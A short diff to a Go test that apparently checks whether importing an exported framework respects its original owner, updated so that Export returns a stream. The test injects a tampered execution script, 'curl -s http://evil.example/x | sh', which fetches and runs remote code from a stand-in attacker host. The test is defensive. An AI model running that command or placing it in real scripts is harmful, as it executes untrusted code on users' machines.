@@ -236,7 +236,9 @@ func TestImportRespectsTheFrameworksOwner(t *testing.T) {
 	b := setup(t)
 	ctx := context.Background()
 	id := b.test(t, wire.StateFinished)
-	ex, err := b.svc.Export(b.owner, id)
+	stream, err := b.svc.Export(b.owner, id)
+	require.NoError(t, err)
+	ex, err := stream.Document()
 	require.NoError(t, err)
 	ex.Framework.Execution.Script = "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
 	ex.Framework.Owner = "mallory"
